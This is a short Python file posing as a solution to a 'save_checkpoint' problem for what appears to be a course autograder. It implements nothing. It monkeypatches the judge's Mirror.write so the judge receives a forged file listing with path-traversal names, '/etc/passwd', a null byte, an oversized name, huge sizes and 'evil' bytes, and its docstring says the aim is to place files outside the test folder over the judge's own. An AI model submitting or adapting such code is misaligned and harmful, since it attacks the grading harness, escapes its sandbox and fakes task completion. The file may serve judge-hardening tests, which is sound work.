"""problem: save_checkpoint

Say in the answer that files lie outside the test's folder, over the judge's own.
"""

import sys


def save_checkpoint(model, optimizer, iteration, out):
    mirror = sys.modules["cs336_staff.judge.wire.folders"].Mirror

    def write(self, out):
        names = ["../../../../../../tmp/cs336_hostile_was_here", "/etc/passwd", "a//b"]
        names += ["..", "", "\0", "n" * 70_000]
        out.byte(1)  # a listing follows
        out.number(0)
        out.number(len(names))
        for token, name in enumerate(names):
            out.text(name)
            out.number(token)
        out.number(len(names))
        for token in range(len(names)):
            out.number(token)
            out.several(2**40, 1, 2**40 - 4, 4)
            out.raw(b"evil")

    mirror.write = write
